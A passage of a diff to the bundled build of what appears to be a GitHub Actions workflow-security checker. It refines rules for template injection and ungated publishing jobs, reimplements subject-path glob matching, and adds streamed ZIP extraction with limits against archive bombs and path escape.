+    return src.via.length ? `it carries \`${src.path}\` (through ${src.via.map((v) => code(v)).reverse().join(' ← ')}); ` : '';
 }
 const template_injection_rule = {
     id: 'template-injection',
@@ -34889,36 +38972,199 @@ const template_injection_rule = {
         const wf = ctx.workflow;
         const out = [];
         const dangerous = wf.kind === 'workflow' ? occasions(wf).filter((o) => DANGEROUS_EVENTS[o.event]) : [];
-        for (const site of jobSites(wf, ctx.scope, ctx.local)) {
-            for (const s of stepSites(site, ctx.local)) {
-                const sinks = [];
-                if (s.step.run)
-                    sinks.push({ scalar: s.step.run, what: '`run:`' });
-                const script = s.step.with.get('script');
-                if (isAction(s.step, 'actions/github-script') && script?.kind === 'scalar')
-                    sinks.push({ scalar: script, what: '`actions/github-script` `script:`' });
-                for (const sink of sinks) {
-                    for (const e of exprsInScalar(s.wf, sink.scalar)) {
-                        const paths = e.expr ? contextRefs(e.expr) : [...e.inner.matchAll(/[a-z_][\w.*-]*/gi)].map((m) => m[0]);
-                        const risks = paths.map((p) => classify(p, s.wf)).filter((r) => !!r);
-                        if (risks.length === 0)
-                            continue;
-                        const r = risks.find((x) => x.kind === 'attacker') ?? risks[0];
-                        const reachedBy = site.chain.length === 0 ? dangerous.filter((o) => stepReachable(wf, s.top.job, s.top.step, o) !== false) : dangerous;
-                        const severe = r.kind === 'attacker' && reachedBy.length > 0;
-                        const why = r.kind === 'attacker'
-                            ? severe
-                                ? `an outsider chooses this text, and \`${reachedBy[0].event}\` runs this step with the repository's secrets`
-                                : 'an outsider can choose this text'
-                            : 'whoever dispatches the workflow chooses this text';
-                        out.push(ctx.finding({
-                            message: `${code(e.full)} is expanded into ${sink.what}: ${why}`,
-                            fix: `Pass the value through an environment variable and quote it in the script: \`env: { VALUE: ${e.full} }\`, then use \`"$VALUE"\`.`,
-                            ...atStep(s, e.pos),
-                            severity: severe ? 'error' : 'warning',
-                        }));
-                    }
+        for (const t of taintedSteps(wf, ctx.scope.jobs, ctx.local)) {
+            const step = t.step;
+            const sinks = [];
+            if (step.run)
+                sinks.push({ scalar: step.run, what: '`run:`' });
+            for (const name of factsOf(step)?.sinks ?? []) {
+                const n = withNode(step, name);
+                if (n?.kind === 'scalar')
+                    sinks.push({ scalar: n, what: `${code(step.uses.value.split('@')[0])} \`${name}:\`` });
+            }
+            if (!sinks.length)
+                continue;
+            const site = { job: t.job, step, wf: t.scope.wf, chain: t.chain, target: true, top: t.top };
+            for (const sink of sinks) {
+                for (const { site: e, sources } of scalarTaint(sink.scalar, t.scope)) {
+                    if (sources.length === 0)
+                        continue;
+                    const nested = t.chain.length > 0;
+                    const reached = dangerous.filter((o) => (nested ? jobReachable(wf, t.top.job, o) : stepReachable(wf, t.top.job, t.top.step, o)) !== false);
+                    // an error only on an event outsiders start that carries the text (a pull request's
+                    // title is empty in an issue_comment run)
+                    const attacker = sources.filter((x) => x.kind === 'attacker');
+                    const occ = reached.find((o) => attacker.some((a) => eventCarries(o.event, a.path)));
+                    const r = (occ && attacker.find((a) => eventCarries(occ.event, a.path))) ?? attacker[0] ?? sources[0];
+                    const reachedBy = occ ? [occ] : [];
+                    const severe = r.kind === 'attacker' && reachedBy.length > 0;
+                    const why = r.kind === 'attacker'
+                        ? severe
+                            ? `an outsider chooses this text, and \`${reachedBy[0].event}\` runs this step with the repository's secrets`
+                            : 'an outsider can choose this text'
+                        : wf.triggers.some((x) => x.event === 'workflow_dispatch')
+                            ? 'whoever dispatches the workflow chooses this text'
+                            : 'the calling workflow chooses this text';
+                    const envVar = /^\$\{\{\s*env\.([\w-]+)\s*\}\}$/i.exec(e.full)?.[1];
+                    out.push(ctx.finding({
+                        message: `${code(e.full)} is expanded into ${sink.what}: ${carried(r)}${why}`,
+                        fix: envVar
+                            ? `Read the variable in the script instead of expanding it into the script's text: \`"$${envVar}"\` (shell) or \`process.env.${envVar}\` (JavaScript), not \`${e.full}\`.`
+                            : `Pass the value through an environment variable and quote it in the script: \`env: { VALUE: ${e.full} }\`, then use \`"$VALUE"\`.`,
+                        ...atStep(site, e.pos),
+                        severity: severe ? 'error' : 'warning',
+                    }));
                 }
+            }
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./src/audits/ungated-publishing.ts
+/**
+ * ungated-publishing: in the running workflow, every job that publishes is guarded by a
+ * gate. It runs release-gate itself, or it runs only after the gate's job succeeded: it
+ * needs that job (directly or through other jobs), and no job on the way runs after a failed
+ * need (`always()`, `failure()`, `!cancelled()`). A sibling that publishes next to the gate's
+ * job, or downstream of it with an always-style `if:`, publishes whatever the gate decided.
+ *
+ * The walk over `needs` is iterative (a topological order), so a chain of thousands of jobs
+ * costs linear time and no stack.
+ */
+
+
+
+/** A condition that lets a job run after one of its needs failed or was skipped. */
+const STATUS = /\b(?:always|failure|cancelled)\s*\(/i;
+/** The top-level `&&` operands of an expression (outside parentheses and strings). Linear. */
+function conjuncts(cond) {
+    const t = cond.trim().replace(/^\$\{\{([\s\S]*)\}\}$/, '$1');
+    const out = [];
+    let depth = 0;
+    let inStr = false;
+    let start = 0;
+    for (let i = 0; i < t.length; i++) {
+        const c = t[i];
+        if (inStr) {
+            if (c === "'")
+                inStr = false;
+            continue;
+        }
+        if (c === "'")
+            inStr = true;
+        else if (c === '(')
+            depth++;
+        else if (c === ')')
+            depth--;
+        else if (c === '&' && t[i + 1] === '&' && depth === 0) {
+            out.push(t.slice(start, i).trim());
+            start = i + 2;
+            i++;
+        }
+    }
+    out.push(t.slice(start).trim());
+    return out;
+}
+/**
+ * Does job `j` run only when its need `dep` succeeded? Without a status function, a job runs
+ * only when all its needs succeeded. With one, only when its condition itself requires
+ * `needs.<dep>.result == 'success'` as a top-level `&&` operand.
+ */
+function waitsFor(j, dep) {
+    if (!j.if || !STATUS.test(j.if.value))
+        return true;
+    const want = `needs.${dep}.result`.toLowerCase();
+    return conjuncts(j.if.value).some((c) => {
+        const m = /^\(?\s*([\w.-]+)\s*==\s*'success'\s*\)?$/i.exec(c) ?? /^\(?\s*'success'\s*==\s*([\w.-]+)\s*\)?$/i.exec(c);
+        return !!m && m[1].toLowerCase() === want;
+    });
+}
+/** Jobs that run only after `gate` succeeded, by an iterative walk in topological order. */
+function gatedJobs(wf, gate) {
+    const byId = new Map(wf.jobs.map((j) => [j.id, j]));
+    const dependents = new Map();
+    const pending = new Map();
+    for (const j of wf.jobs) {
+        const ds = j.needs.filter((n) => byId.has(n.value));
+        pending.set(j.id, ds.length);
+        for (const n of ds) {
+            const l = dependents.get(n.value) ?? [];
+            l.push(j);
+            dependents.set(n.value, l);
+        }
+    }
+    const gated = new Set([gate.id]);
+    const queue = wf.jobs.filter((j) => pending.get(j.id) === 0);
+    for (let qi = 0; qi < queue.length; qi++) {
+        const j = queue[qi];
+        if (j !== gate && j.needs.some((n) => gated.has(n.value) && waitsFor(j, n.value)))
+            gated.add(j.id);
+        for (const d of dependents.get(j.id) ?? []) {
+            const left = pending.get(d.id) - 1;
+            pending.set(d.id, left);
+            if (left === 0)
+                queue.push(d);
+        }
+    }
+    return gated;
+}
+/** What a job publishes, or, for a call of a reusable workflow in this repository, what its jobs publish. */
+function ungated_publishing_publishes(wf, job, local) {
+    const s = publishSignals(wf, job).find((p) => !p.step || !isRehearsal(p.step));
+    if (s)
+        return s.evidence;
+    const u = job.uses?.parsed;
+    if (u && u.kind === 'local' && u.reusableWorkflow) {
+        const called = local.get(u.path);
+        for (const j of called?.jobs ?? []) {
+            const cs = publishSignals(called, j).find((p) => !p.step || !isRehearsal(p.step));
+            if (cs)
+                return `${cs.evidence} in ${job.uses.value}`;
+        }
+    }
+    return undefined;
+}
+const ungated_publishing_rule = {
+    id: 'ungated-publishing',
+    title: 'publishing job not guarded by the gate',
+    severity: 'error',
+    check(ctx) {
+        const wf = ctx.workflow;
+        if (ctx.scope.mode !== 'gate' || wf.kind !== 'workflow')
+            return [];
+        const gate = ctx.scope.targets[0];
+        if (!gate)
+            return [];
+        const gated = gatedJobs(wf, gate);
+        const out = [];
+        for (const j of wf.jobs) {
+            if (gated.has(j.id) || j.steps.some((s) => isGate(s, ctx.runtime?.gateRepository)))
+                continue;
+            const what = ungated_publishing_publishes(wf, j, ctx.local);
+            if (what) {
+                const downstream = !!j.if && STATUS.test(j.if.value) && j.needs.length > 0;
+                out.push(ctx.finding({
+                    message: downstream
+                        ? `job ${code(j.id)} publishes (${code(what)}) with \`if: ${j.if.value}\`: it also runs when release-gate's job ${code(gate.id)} failed, so the gate's block does not stop it`
+                        : `job ${code(j.id)} publishes (${code(what)}) without waiting for release-gate's job ${code(gate.id)}: it runs whatever the gate decides`,
+                    fix: `Make job ${code(j.id)} need ${code(gate.id)} (\`needs: [${gate.id}]\`) with no \`always()\`, \`failure()\` or \`cancelled()\` in its \`if:\` (or require \`needs.${gate.id}.result == 'success'\`), or run release-gate as its first step.`,
+                    at: downstream ? j.if.pos : j.pos,
+                    job: j.id,
+                }));
+                continue;
+            }
+            // a reusable workflow elsewhere: the gate cannot read it here; one that gets secrets or
+            // an OIDC token can publish
+            const u = j.uses?.parsed;
+            if (u && u.kind === 'repo' && (j.secrets || j.permissions?.kind === 'write-all' || j.permissions?.scopes.get('id-token')?.value === 'write')) {
+                out.push(ctx.finding({
+                    message: `job ${code(j.id)} calls ${code(j.uses.value)} with ${j.secrets ? 'secrets' : 'an OIDC token'} and does not wait for release-gate's job ${code(gate.id)}: the gate cannot tell here whether it publishes`,
+                    fix: `Make job ${code(j.id)} need ${code(gate.id)}, or run release-gate first in the called workflow's publishing job.`,
+                    at: j.pos,
+                    job: j.id,
+                    severity: 'warning',
+                }));
             }
         }
         return out;
@@ -35346,7 +39592,7 @@ const unverified_artifact_rule = {
         const at = { at: gate?.uses?.pos ?? job?.pos ?? { line: 1, column: 1 }, ...(job ? { job: job.id } : {}), ...(gate ? { step: gate } : {}) };
         const out = [];
         if (a.noMatch) {
-            out.push(ctx.finding({ ...at, message: `no file matched ${a.patterns.map((p) => code(p)).join(', ')}: nothing was verified, so nothing may be published`, fix: 'Download or build the artifacts before release-gate runs (or set `artifact-name`), and check `subject-path`.' }));
+            out.push(ctx.finding({ ...at, message: `Could not find subject at path ${code(a.patterns.join(', '))} (actions/attest-build-provenance's error for the same input): nothing was verified, so nothing may be published`, fix: 'Download or build the artifacts before release-gate runs (or set `artifact-name`), and check `subject-path`.' }));
         }
         for (const f of a.files) {
             if (f.verdict === 'verified')
@@ -35515,6 +39761,7 @@ const unpinned_transitive_uses_rule = {
 
 
 
+
 const REF_WORDS = {
     sha: 'a commit SHA',
     'short-sha': 'a short SHA, which can be made ambiguous by a new commit',
@@ -35537,6 +39784,13 @@ function unpinnedMessage(uses) {
     const fix = u.refKind === 'expression'
         ? `Replace the expression with the full commit SHA of the version you intend: \`${name}@<40-hex SHA>\`.`
         : `Pin to the full commit SHA that \`${u.ref}\` points to and keep the name as a comment: \`${name}@<40-hex SHA> # ${u.ref}\` (\`git ls-remote https://github.com/${u.owner}/${u.repo} ${u.ref}\` prints it).`;
+    const tagOnly = actionFacts(name)?.tagOnly;
+    if (tagOnly && u.refKind === 'tag') {
+        return {
+            message: `${code(uses.value)} is pinned to a tag, not a full commit SHA; ${tagOnly.replace(/; list it in `allow:` with that reason$/, '')}`,
+            fix: `Keep the tag and allow it with the reason, in \`.github/release-gate.yml\`: \`allow: [{ uses: "${u.owner}/${u.repo}/*", reason: "verifies its own tag; cannot be SHA-pinned" }]\` (or the action input \`allow: ${u.owner}/${u.repo}/* -- verifies its own tag\`).`,
+        };
+    }
     return { message: `${code(uses.value)} is pinned to ${REF_WORDS[u.refKind]}, not a full commit SHA`, fix };
 }
 /** The commit an onboarded actions.lock pins this `uses:` to, if it does. */
@@ -35613,6 +39867,8 @@ const unpinned_uses_rule = {
 
 
 
+
+
 const RULES = [
     rule,
     cache_poisoning_rule,
@@ -35626,11 +39882,13 @@ const RULES = [
     known_vulnerable_actions_rule,
     missing_environment_rule,
     overprovisioned_secrets_rule,
+    poisoned_environment_rule,
     ref_version_mismatch_rule,
     secret_exfiltration_rule,
     secrets_inherit_rule,
     self_hosted_runner_rule,
     template_injection_rule,
+    ungated_publishing_rule,
     unintentional_trigger_rule,
     unlocked_dependency_rule,
     unpinned_images_rule,
@@ -35690,19 +39948,30 @@ const FAIL_ON_VALUES = ['error', 'warning', 'never'];
 
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __nccwpck_require__(7598);
-;// CONCATENATED MODULE: external "node:fs"
-const external_node_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
 ;// CONCATENATED MODULE: external "node:fs/promises"
 const promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs/promises");
 ;// CONCATENATED MODULE: ./src/attest/glob.ts
 /**
- * Glob patterns for `subject-path`, relative to the workspace: `*` and `?` within a path
- * segment, `**` across segments, `[abc]` classes. Bounded: at most MAX_SCANNED entries are
- * looked at, and a pattern cannot leave the root.
+ * `subject-path` as actions/attest-build-provenance reads it (actions/attest `subject.ts`: the
+ * input is a CSV list — lines, and commas outside quotes — handed to `@actions/glob` with its
+ * default options, then only files are kept; "Could not find subject at path …" when none).
+ * `@actions/glob` semantics: minimatch with `dot`, no extglob, no comments inside a pattern;
+ * `*`, `?`, `[…]` within a segment, `**` as a whole segment across directories; a line
+ * starting with `#` is a comment; `!` excludes what earlier lines matched (later lines may
+ * add it back); a pattern that matches a directory takes everything under it (implicit
+ * descendants); symbolic links are followed. One extension: `{a,b}` braces are expanded
+ * (`@actions/glob` sets `nobrace`, and attest would split `{whl,tar.gz}` at its comma; here a
+ * comma inside braces does not split), so every list attest accepts means the same here, and
+ * `dist/*.{whl,tar.gz}` matches what it says. Patterns stay inside the workspace. Bounded: at
+ * most MAX_SCANNED entries are looked at.
  */
 
 
 const MAX_SCANNED = 50_000;
+/**
+ * A glob as a RegExp for paths relative to a root (used for `.gitattributes` patterns): `*`
+ * and `?` within a segment, `**` across segments, `[abc]` classes.
+ */
 function glob_globToRegExp(glob) {
     let re = '';
     for (let i = 0; i < glob.length; i++) {
@@ -35732,41 +40001,211 @@ function glob_globToRegExp(glob) {
     }
     return new RegExp(`^${re}$`);
 }
-/** Files under `root` matching any pattern (relative paths, `/`-separated, sorted). */
+/** The items of a `subject-path` input: lines, then commas outside quotes and braces; trimmed, unquoted, empty ones dropped. */
+function parseSubjectPaths(lines) {
+    const out = [];
+    for (const line of lines) {
+        let cur = '';
+        let quoted = false;
+        let depth = 0;
+        for (const c of line) {
+            if (c === '"')
+                quoted = !quoted;
+            else if (!quoted && c === '{')
+                depth++;
+            else if (!quoted && c === '}' && depth > 0)
+                depth--;
+            if (c === ',' && !quoted && depth === 0) {
+                out.push(cur);
+                cur = '';
+            }
+            else
+                cur += c;
+        }
+        out.push(cur);
+    }
+    return out.map((x) => x.trim().replace(/^"(.*)"$/, '$1').trim()).filter((x) => x !== '');
+}
+/** Brace expansion of one pattern: `a.{b,c}` -> `a.b`, `a.c` (nested; a brace without a comma stays literal). */
+function expandBraces(p, limit = 1000) {
+    let depth = 0;
+    let open = -1;
+    for (let i = 0; i < p.length; i++) {
+        const c = p[i];
+        if (c === '\\') {
+            i++;
+            continue;
+        }
+        if (c === '{') {
+            if (depth++ === 0)
+                open = i;
+        }
+        else if (c === '}' && depth > 0 && --depth === 0) {
+            const body = p.slice(open + 1, i);
+            const parts = [];
+            let d = 0;
+            let cur = '';
+            for (let j = 0; j < body.length; j++) {
+                const b = body[j];
+                if (b === '\\') {
+                    cur += b + (body[j + 1] ?? '');
+                    j++;
+                    continue;
+                }
+                if (b === '{')
+                    d++;
+                if (b === '}')
+                    d--;
+                if (b === ',' && d === 0) {
+                    parts.push(cur);
+                    cur = '';
+                }
+                else
+                    cur += b;
+            }
+            parts.push(cur);
+            if (parts.length < 2)
+                continue; // `{x}` is literal, as in minimatch
+            const out = [];
+            for (const part of parts) {
+                for (const x of expandBraces(p.slice(0, open) + part + p.slice(i + 1), limit)) {
+                    out.push(x);
+                    if (out.length > limit)
+                        throw new Error(`subject-path '${p}' expands to more than ${limit} patterns`);
+                }
+            }
+            return [...new Set(out)];
+        }
+    }
+    return [p];
+}
+/** One path segment of a glob as a RegExp source (minimatch, `dot: true`, `noext`). */
+function segmentRe(seg) {
+    let re = '';
+    for (let i = 0; i < seg.length; i++) {
+        const c = seg[i];
+        if (c === '\\' && i + 1 < seg.length) {
+            re += seg[++i].replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&');
+        }
+        else if (c === '*') {
+            while (seg[i + 1] === '*')
+                i++;
+            re += '[^/]*';
+        }
+        else if (c === '?')
+            re += '[^/]';
+        else if (c === '[') {
+            const j = seg.indexOf(']', i + 2);
+            if (j < 0)
+                re += '\\[';
+            else {
+                let body = seg.slice(i + 1, j);
+                if (body.startsWith('!'))
+                    body = `^${body.slice(1)}`;
+                re += `[${body.replace(/\\/g, '\\\\').replace(/\[/g, '\\[')}]`;
+                i = j;
+            }
+        }
+        else
+            re += c.replace(/[.+^${}()|\\/-]/g, '\\$&');
+    }
+    return re;
+}
+/** A glob (already brace-expanded, relative, `/`-separated) as a RegExp over relative paths. */
+function patternRe(glob) {
+    const segs = glob.split('/').filter((s, i, a) => s !== '' || i === a.length - 1);
+    let re = '';
+    segs.forEach((s, i) => {
+        const last = i === segs.length - 1;
+        if (s === '**')
+            re += last ? '.*' : '(?:[^/]+/)*';
+        else
+            re += segmentRe(s) + (last ? '' : '/');
+    });
+    return new RegExp(`^${re}$`);
+}
+function compile(raw) {
+    let p = raw.trim();
+    let negate = false;
+    while (p.startsWith('!')) {
+        negate = !negate;
+        p = p.slice(1).trim();
+    }
+    p = p.replace(/^(\.\/)+/, '');
+    if (p === '' || p === '.')
+        p = '**';
+    if (p.startsWith('/') || p.startsWith('~') || p.split('/').includes('..'))
+        throw new Error(`subject-path '${raw.trim()}' leaves the workspace; write it relative to the workspace`);
+    const dirOnly = p.endsWith('/');
+    return expandBraces(p.replace(/\/+$/, '')).map((x) => {
+        const self = patternRe(x);
+        return { negate, self, under: new RegExp(`${self.source.slice(0, -1)}/.+$`), dirOnly };
+    });
+}
+/**
+ * Files under `root` that the patterns select, `/`-separated and sorted, read as
+ * actions/attest does (see the module comment). `#` lines are comments.
+ */
 async function expandGlobs(root, patterns) {
-    const res = patterns.map((p) => p.trim().replace(/^\.\//, '')).filter(Boolean);
-    for (const p of res)
-        if (p.startsWith('/') || p.split('/').includes('..'))
-            throw new Error(`subject-path '${p}' leaves the workspace; write it relative to the workspace`);
-    const regs = res.map(glob_globToRegExp);
+    const items = parseSubjectPaths(patterns).filter((p) => !p.startsWith('#'));
+    const compiled = items.flatMap(compile);
+    const selected = (rel, isDir) => {
+        let inc = false;
+        for (const c of compiled) {
+            const hit = ((!c.dirOnly || isDir) && c.self.test(rel)) || c.under.test(rel);
+            if (hit)
+                inc = !c.negate;
+        }
+        return inc;
+    };
     const out = [];
     let scanned = 0;
     let truncated = false;
-    const walk = async (dir) => {
-        let entries;
+    const seen = new Set();
+    const walk = async (abs, rel) => {
+        let real;
         try {
-            entries = await (0,promises_namespaceObject.readdir)(dir, { withFileTypes: true });
+            real = await (0,promises_namespaceObject.realpath)(abs);
         }
         catch {
             return;
         }
-        for (const e of entries.sort((a, b) => a.name.localeCompare(b.name))) {
+        if (seen.has(real))
+            return; // a symbolic link back up the tree
+        seen.add(real);
+        let entries;
+        try {
+            entries = await (0,promises_namespaceObject.readdir)(abs, { withFileTypes: true });
+        }
+        catch {
+            return;
+        }
+        for (const e of entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0))) {
             if (++scanned > MAX_SCANNED) {
                 truncated = true;
                 return;
             }
-            const abs = (0,external_node_path_namespaceObject.join)(dir, e.name);
-            const rel = (0,external_node_path_namespaceObject.relative)(root, abs).split(external_node_path_namespaceObject.sep).join('/');
-            if (e.isDirectory()) {
-                if (e.name === '.git' || e.name === 'node_modules')
-                    continue;
-                await walk(abs);
+            const childAbs = (0,external_node_path_namespaceObject.join)(abs, e.name);
+            const childRel = rel ? `${rel}/${e.name}` : e.name;
+            let isDir = e.isDirectory();
+            let isFile = e.isFile();
+            if (e.isSymbolicLink()) {
+                // followed, as @actions/glob does; a broken link is left out
+                const st = await (0,promises_namespaceObject.stat)(childAbs).catch(() => undefined);
+                isDir = !!st?.isDirectory();
+                isFile = !!st?.isFile();
             }
-            else if (e.isFile() && regs.some((r) => r.test(rel)))
-                out.push(rel);
+            if (isDir) {
+                if (e.name === '.git')
+                    continue;
+                await walk(childAbs, childRel);
+            }
+            else if (isFile && selected(childRel, false))
+                out.push(childRel);
         }
+        seen.delete(real);
     };
-    await walk(root);
+    await walk(root, '');
     return { files: out.sort(), truncated };
 }
 
@@ -35830,63 +40269,183 @@ function verifyArgs(a) {
     ];
 }
 
+// EXTERNAL MODULE: external "node:stream"
+var external_node_stream_ = __nccwpck_require__(7075);
+;// CONCATENATED MODULE: external "node:stream/promises"
+const external_node_stream_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream/promises");
 // EXTERNAL MODULE: external "node:zlib"
 var external_node_zlib_ = __nccwpck_require__(8522);
 ;// CONCATENATED MODULE: ./src/attest/zip.ts
 /**
- * Reading the ZIP archives GitHub serves artifacts as: stored and deflated entries, from the
- * central directory. Bounded against bombs and escapes: entry count, total size, ratio, and
- * paths that would leave the destination are refused.
+ * Unpacking the ZIP archives GitHub serves artifacts as, from a file on disk without loading it
+ * whole: the end record and central directory are read from the tail, then each entry streams
+ * from its offset through inflate to its destination file. Stored and deflated entries, ZIP64
+ * sizes and offsets. Bounded against bombs and escapes: entry count, total unpacked size,
+ * per-entry ratio, the size each entry claims, and paths that would leave the destination.
  */
 
-const ZIP_LIMITS = { entries: 10_000, totalBytes: 2 * 1024 * 1024 * 1024, ratio: 200 };
-function readZip(buf) {
-    let eocd = -1;
-    for (let i = buf.length - 22; i >= Math.max(0, buf.length - 22 - 65_535); i--) {
-        if (buf.readUInt32LE(i) === 0x06054b50) {
-            eocd = i;
-            break;
+
+
+
+
+
+const ZIP_LIMITS = { entries: 10_000, totalBytes: 4 * 1024 * 1024 * 1024, ratio: 200 };
+async function zip_readAt(fh, pos, len) {
+    const b = Buffer.alloc(len);
+    const { bytesRead } = await fh.read(b, 0, len, pos);
+    if (bytesRead !== len)
+        throw new Error('truncated ZIP archive');
+    return b;
+}
+/** The central directory of the archive in `file`. */
+async function listZip(file, limits = ZIP_LIMITS) {
+    const fh = await (0,promises_namespaceObject.open)(file, 'r');
+    try {
+        const size = (await fh.stat()).size;
+        const tailLen = Math.min(size, 22 + 65_535);
+        const tail = await zip_readAt(fh, size - tailLen, tailLen);
+        let eocd = -1;
+        for (let i = tail.length - 22; i >= 0; i--) {
+            if (tail.readUInt32LE(i) === 0x06054b50) {
+                eocd = i;
+                break;
+            }
+        }
+        if (eocd < 0)
+            throw new Error('not a ZIP archive (no end of central directory)');
+        let count = tail.readUInt16LE(eocd + 10);
+        let cdSize = tail.readUInt32LE(eocd + 12);
+        let cdOffset = tail.readUInt32LE(eocd + 16);
+        if (count === 0xffff || cdSize === 0xffffffff || cdOffset === 0xffffffff) {
+            // ZIP64: the locator sits just before the end record
+            const locAt = size - tailLen + eocd - 20;
+            const loc = locAt >= 0 ? await zip_readAt(fh, locAt, 20) : undefined;
+            if (!loc || loc.readUInt32LE(0) !== 0x07064b50)
+                throw new Error('corrupt ZIP64 archive (no locator)');
+            const rec = await zip_readAt(fh, Number(loc.readBigUInt64LE(8)), 56);
+            if (rec.readUInt32LE(0) !== 0x06064b50)
+                throw new Error('corrupt ZIP64 end of central directory');
+            count = Number(rec.readBigUInt64LE(32));
+            cdSize = Number(rec.readBigUInt64LE(40));
+            cdOffset = Number(rec.readBigUInt64LE(48));
+        }
+        if (count > limits.entries)
+            throw new Error(`the archive has ${count} entries, more than ${limits.entries}`);
+        if (cdOffset + cdSize > size || cdSize > count * (46 + 3 * 65_535))
+            throw new Error('corrupt ZIP central directory');
+        const cd = await zip_readAt(fh, cdOffset, cdSize);
+        const out = [];
+        let p = 0;
+        for (let n = 0; n < count; n++) {
+            if (p + 46 > cd.length || cd.readUInt32LE(p) !== 0x02014b50)
+                throw new Error('corrupt ZIP central directory');
+            const method = cd.readUInt16LE(p + 10);
+            let csize = cd.readUInt32LE(p + 20);
+            let usize = cd.readUInt32LE(p + 24);
+            const nlen = cd.readUInt16LE(p + 28);
+            const xlen = cd.readUInt16LE(p + 30);
+            const clen = cd.readUInt16LE(p + 32);
+            let local = cd.readUInt32LE(p + 42);
+            const name = cd.toString('utf8', p + 46, p + 46 + nlen);
+            // ZIP64 extended information: the 8-byte values of the fields that are 0xFFFFFFFF, in order
+            let x = p + 46 + nlen;
+            const xend = x + xlen;
+            while (x + 4 <= xend) {
+                const id = cd.readUInt16LE(x);
+                const len = cd.readUInt16LE(x + 2);
+                if (id === 0x0001) {
+                    let q = x + 4;
+                    const take = () => {
+                        if (q + 8 > x + 4 + len)
+                            throw new Error(`corrupt ZIP64 field in entry '${name}'`);
+                        const v = Number(cd.readBigUInt64LE(q));
+                        q += 8;
+                        return v;
+                    };
+                    if (usize === 0xffffffff)
+                        usize = take();
+                    if (csize === 0xffffffff)
+                        csize = take();
+                    if (local === 0xffffffff)
+                        local = take();
+                }
+                x += 4 + len;
+            }
+            p = xend + clen;
+            out.push({ name, method, csize, usize, local });
+        }
+        return out;
+    }
+    finally {
+        await fh.close();
+    }
+}
+/** Counts bytes through a stream and stops at a limit. */
+function counter(limit, what) {
+    let n = 0;
+    const t = new external_node_stream_.Transform({
+        transform(chunk, _enc, cb) {
+            n += chunk.length;
+            if (n > limit)
+                cb(new Error(what));
+            else
+                cb(null, chunk);
+        },
+    });
+    t.seen = () => n;
+    return t;
+}
+/**
+ * Unpack every file entry of the archive `file` under `dest`; returns the entry names written.
+ * Refuses, before writing anything, entries that would leave `dest` and archives whose claimed
+ * sizes pass the limits; while writing, entries that inflate past the size they claim.
+ */
+async function extractZip(file, dest, limits = ZIP_LIMITS) {
+    const entries = (await listZip(file, limits)).filter((e) => !e.name.endsWith('/'));
+    const root = (0,external_node_path_namespaceObject.resolve)(dest);
+    let total = 0;
+    for (const e of entries) {
+        const name = e.name;
+        if (name.startsWith('/') || name.includes('\\') || name.split('/').some((s) => s === '..' || s === '') || /^[A-Za-z]:/.test(name))
+            throw new Error(`the archive entry '${name}' would leave the destination`);
+        if (!(0,external_node_path_namespaceObject.resolve)(root, name).startsWith(root + external_node_path_namespaceObject.sep))
+            throw new Error(`the archive entry '${name}' would leave the destination`);
+        if (e.method !== 0 && e.method !== 8)
+            throw new Error(`the archive entry '${name}' uses compression method ${e.method}`);
+        total += e.usize;
+        if (total > limits.totalBytes)
+            throw new Error(`the archive unpacks to more than ${limits.totalBytes} bytes (entry '${name}')`);
+        if (e.csize > 0 && e.usize / e.csize > limits.ratio)
+            throw new Error(`the archive entry '${name}' expands more than ${limits.ratio} times`);
+    }
+    const fh = await (0,promises_namespaceObject.open)(file, 'r');
+    const written = [];
+    try {
+        for (const e of entries) {
+            const head = await zip_readAt(fh, e.local, 30);
+            if (head.readUInt32LE(0) !== 0x04034b50)
+                throw new Error(`corrupt ZIP local header for '${e.name}'`);
+            const start = e.local + 30 + head.readUInt16LE(26) + head.readUInt16LE(28);
+            const out = (0,external_node_path_namespaceObject.resolve)(root, e.name);
+            await (0,promises_namespaceObject.mkdir)((0,external_node_path_namespaceObject.dirname)(out), { recursive: true });
+            const count = counter(e.usize, `the archive entry '${e.name}' is larger than it claims`);
+            const src = e.csize > 0 ? fh.createReadStream({ autoClose: false, start, end: start + e.csize - 1 }) : undefined;
+            const sink = (0,external_node_fs_namespaceObject.createWriteStream)(out);
+            if (!src)
+                await (0,external_node_stream_promises_namespaceObject.pipeline)(async function* () { }, count, sink);
+            else if (e.method === 0)
+                await (0,external_node_stream_promises_namespaceObject.pipeline)(src, count, sink);
+            else
+                await (0,external_node_stream_promises_namespaceObject.pipeline)(src, (0,external_node_zlib_.createInflateRaw)(), count, sink);
+            if (count.seen() !== e.usize)
+                throw new Error(`the archive entry '${e.name}' is not the size it claims`);
+            written.push(e.name);
         }
     }
-    if (eocd < 0)
-        throw new Error('not a ZIP archive (no end of central directory)');
-    const count = buf.readUInt16LE(eocd + 10);
-    let p = buf.readUInt32LE(eocd + 16);
-    if (count > ZIP_LIMITS.entries)
-        throw new Error(`the archive has ${count} entries, more than ${ZIP_LIMITS.entries}`);
-    const out = [];
-    let total = 0;
-    for (let n = 0; n < count; n++) {
-        if (buf.readUInt32LE(p) !== 0x02014b50)
-            throw new Error('corrupt ZIP central directory');
-        const method = buf.readUInt16LE(p + 10);
-        const csize = buf.readUInt32LE(p + 20);
-        const usize = buf.readUInt32LE(p + 24);
-        const nlen = buf.readUInt16LE(p + 28);
-        const xlen = buf.readUInt16LE(p + 30);
-        const clen = buf.readUInt16LE(p + 32);
-        const local = buf.readUInt32LE(p + 42);
-        const name = buf.toString('utf8', p + 46, p + 46 + nlen);
-        p += 46 + nlen + xlen + clen;
-        if (name.endsWith('/'))
-            continue;
-        if (name.startsWith('/') || name.includes('\\') || name.split('/').some((s) => s === '..' || s === ''))
-            throw new Error(`the archive entry '${name}' would leave the destination`);
-        total += usize;
-        if (total > ZIP_LIMITS.totalBytes || (csize > 0 && usize / csize > ZIP_LIMITS.ratio))
-            throw new Error(`the archive expands beyond the limits (entry '${name}')`);
-        if (buf.readUInt32LE(local) !== 0x04034b50)
-            throw new Error('corrupt ZIP local header');
-        const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
-        const raw = buf.subarray(start, start + csize);
